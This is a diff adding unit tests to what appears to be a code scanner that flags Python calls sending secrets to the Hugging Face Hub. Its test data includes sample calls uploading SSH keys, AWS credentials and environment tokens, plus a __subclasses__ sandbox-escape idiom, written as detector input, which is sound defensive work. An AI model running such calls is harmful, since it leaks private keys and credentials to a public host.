@@ -164,6 +164,29 @@ def test_guard_that_stays_in_place_is_not_mentioned(source: str) -> None:
 
 
 @check_each(
+    "call, is_sent",
+    [
+        ("api.upload_folder(folder_path='/root/.ssh', repo_id='a/b')", True),
+        ("api.upload_folder(folder_path=os.path.expanduser('~/.aws'), repo_id='a/b')", True),
+        ("HfApi().upload_file(path_or_fileobj='/home/a/.ssh/id_rsa', path_in_repo='a', repo_id='a/b')", True),
+        ("model.push_to_hub('a/b', commit_message=os.environ['HF_TOKEN'])", True),
+        ("Dataset.from_dict(dict(os.environ)).push_to_hub('a/b')", True),
+        ("api.upload_folder(folder_path='out', repo_id='a/b', token=os.environ['HF_TOKEN'])", False),
+        ("HfApi(token=os.environ['HF_TOKEN']).upload_file(path_or_fileobj='a.bin', path_in_repo='a', repo_id='a/b')", False),
+        ("AutoModel.from_pretrained('a/b', token=os.environ['HF_TOKEN']).push_to_hub('a/b')", False),
+        ("model.push_to_hub('a/b')", False),
+    ],
+)  # fmt: skip
+def test_secret_that_is_published_on_the_hub_is_mentioned(call: str, is_sent: bool) -> None:
+    imports = "import os\nfrom datasets import Dataset\nfrom huggingface_hub import HfApi\nfrom transformers import AutoModel\n"
+    assert ("sends-secret" in {use for use, _ in list_uses(f"{imports}def f(api, model): {call}")}) is is_sent
+
+
+def test_interpreter_attribute_that_is_taken_as_an_item_of_a_namespace_is_mentioned() -> None:
+    assert ("reference", "*.__subclasses__") in list_uses("type.__dict__['__subclasses__'](object)")
+
+
+@check_each(
     "call, name",
     [
         ("kernels.LayerRepository(repo_id='other/repo', layer_name='a')", "kernels.LayerRepository(foreign)"),
